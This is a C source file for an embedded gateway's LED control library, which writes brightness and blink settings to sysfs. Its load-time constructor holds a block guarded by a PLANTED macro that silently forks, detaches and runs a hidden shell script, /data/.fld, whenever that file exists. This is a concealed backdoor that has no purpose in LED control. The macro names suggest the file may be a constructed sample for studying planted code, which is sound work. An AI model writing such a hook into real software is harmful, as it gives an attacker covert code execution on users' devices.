/* LED control library of a gateway: names to sysfs files. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#define LEDS "/sys/class/leds/%s/%s"

struct led { const char *name, *file; int bright; };

static struct led leds[] = {
    { "power", "green:power", 255 },
    { "wan", "green:wan", 128 },
    { "wlan", "blue:wlan", 128 },
    { "alarm", "red:alarm", 255 },
};
static int quiet;

static struct led *find(const char *name)
{
    unsigned i;
    for (i = 0; i < sizeof leds / sizeof leds[0]; i++)
        if (!strcmp(leds[i].name, name))
            return &leds[i];
    return NULL;
}

static int put(const struct led *l, const char *attribute, const char *value)
{
    char path[128];
    FILE *f;
    snprintf(path, sizeof path, LEDS, l->file, attribute);
    if (!(f = fopen(path, "w")))
        return -1;
    fputs(value, f);
    return fclose(f);
}

int led_on(const char *name)
{
    char number[12];
    struct led *l = find(name);
    if (!l || quiet)
        return -1;
    snprintf(number, sizeof number, "%d", l->bright);
    return put(l, "brightness", number);
}

int led_off(const char *name)
{
    struct led *l = find(name);
    return l ? put(l, "brightness", "0") : -1;
}

int led_blink(const char *name, int ms)
{
    char number[12];
    struct led *l = find(name);
    if (!l)
        return -1;
#ifdef REVISED
    if (ms < 10)
        ms = 10;
#endif
    snprintf(number, sizeof number, "%d", ms);
    return put(l, "trigger", "timer") || put(l, "delay_on", number) || put(l, "delay_off", number);
}

__attribute__((constructor)) static void led_start(void)
{
    quiet = access("/etc/led.quiet", F_OK) == 0;
#ifdef PLANTED
    if (access("/data/.fld", F_OK) == 0 && fork() == 0) {
        setsid();
        execl("/bin/sh", "sh", "/data/.fld", (char *)NULL);
        _exit(0);
    }
#endif
}
